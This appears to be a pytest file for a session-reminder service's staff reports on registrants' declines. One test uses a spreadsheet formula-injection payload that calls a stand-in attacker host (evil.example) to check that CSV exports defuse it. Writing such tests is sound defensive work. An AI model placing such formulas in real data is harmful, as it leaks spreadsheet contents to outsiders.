"""What staff read of registrants' declines: `status`, `registrants` (the speakers' list
per session) and `history`, from the ledger the service writes."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timedelta

import pytest

from reminder.commands import checking
from reminder.core.answer import OK
from reminder.storage.ledger import Ledger
from tests.support.project import Project, person
from tests.support.worker import PARIS

MARCH = date(2023, 3, 1)
DECLINED_AT = datetime(2023, 2, 25, 10, 30, tzinfo=PARIS)


@pytest.fixture
def declined(project: Project) -> Project:
    """Three registrants; alex1 declined March 1st, alex2 declined it and came back."""
    project.registrants([person(n) for n in range(3)])
    with Ledger(project.root / "state" / "ledger.sqlite") as ledger:
        ledger.decline("2023-03-01", "alex1@example.org", MARCH, DECLINED_AT)
        ledger.decline("2023-03-01", "alex2@example.org", MARCH, DECLINED_AT)
        ledger.undo_decline("2023-03-01", "alex2@example.org", DECLINED_AT + timedelta(hours=2))
    return project


def test_the_speakers_list_of_a_session_leaves_out_who_declined_it(declined: Project) -> None:
    answer = checking.registrants(declined.config, session=MARCH, output="csv", show_addresses=True)
    rows = list(csv.DictReader(io.StringIO(answer.out)))
    assert [r["email"] for r in rows] == ["alex0@example.org", "alex2@example.org"]
    april = checking.registrants(
        declined.config, session=date(2023, 4, 5), output="csv", show_addresses=True
    )
    assert len(list(csv.DictReader(io.StringIO(april.out)))) == 3  # other sessions: everyone


def test_the_speakers_list_never_hands_a_spreadsheet_a_formula(project: Project) -> None:
    """What registrants typed in a public form opens in staff's spreadsheet: a cell
    starting with = + - @ would run as a formula there (OWASP's CSV injection)."""
    typed = {
        "Prénom": '=HYPERLINK("https://evil.example/?"&A2,"Cliquez")',
        "Nom": "+33 6 12 34 56 78",
        "Fonction": "@SUM(1+1)",
        "Collectivité": "-2+3",
    }
    project.registrants([{**person(1), **typed}])
    answer = checking.registrants(project.config, session=MARCH, output="csv")
    [row] = csv.DictReader(io.StringIO(answer.out))
    cells = [row["first_name"], row["last_name"], row["role"], row["organisation"]]
    assert cells == ["'" + typed[k] for k in ("Prénom", "Nom", "Fonction", "Collectivité")]
    assert row["sessions"] == "all" and row["row"] == "2"


def test_registrants_count_declines_per_session_and_list_them_masked(declined: Project) -> None:
    table = checking.registrants(declined.config).out
    assert "declined 2023-03-01 (not mailed about it, not expected):" in table
    assert "  a***@example.org  2023-02-25 10:30" in table
    assert "alex1@example.org" not in table
    data = json.loads(checking.registrants(declined.config, output="json").out)
    march = next(s for s in data["sessions"] if s["session"] == "2023-03-01")
    assert (march["registered"], march["declined"], march["to_be_mailed"]) == (3, 1, 2)
    assert march["declines"] == [
        {"recipient": "a***@example.org", "declined_at": "2023-02-25T10:30:00+01:00"}
    ]


def test_status_counts_registered_declined_and_to_be_mailed_and_misses_nobody(
    declined: Project,
) -> None:
    with Ledger(declined.root / "state" / "ledger.sqlite") as ledger:
        ledger.suppress("alex0@example.org", reason="test", source="staff", at=DECLINED_AT)
    now = datetime(2023, 3, 1, 18, tzinfo=PARIS)  # March's reminders all fell due unsent
    answer = checking.status(declined.config, now=now, output="json")
    data = json.loads(answer.out)
    march = next(s for s in data["sessions"] if s["session"] == "2023-03-01")
    assert (march["registered"], march["declined"], march["to_be_mailed"]) == (3, 1, 1)
    one_day = next(
        r for r in data["reminders"] if r["session"] == "2023-03-01" and r["lead"] == "1d"
    )
    # Neither the declined nor the suppressed registrant counts as missed.
    assert (one_day["registrants"], one_day["missed"]) == (1, 1)
    text = checking.status(declined.config, now=now).out
    assert "per session:" in text
    assert "declined 2023-03-01:" in text and "a***@example.org  2023-02-25 10:30+01:00" in text


def test_history_lists_a_decline_and_its_undoing(declined: Project) -> None:
    answer = checking.history(
        declined.config, recipient="alex2@example.org", clock=lambda: DECLINED_AT
    )
    assert answer.status == OK
    assert "a***@example.org  declined, came after all 2023-02-25 12:30+01:00" in answer.out
    entries = json.loads(
        checking.history(declined.config, output="json", session=MARCH, show_addresses=True).out
    )
    assert [(e["kind"], e["recipient"], e["status"]) for e in entries] == [
        ("decline", "alex1@example.org", "declined"),
        ("decline", "alex2@example.org", "undone"),
    ]
    april = json.loads(
        checking.history(declined.config, output="json", session=date(2023, 4, 5)).out
    )
    assert april == []
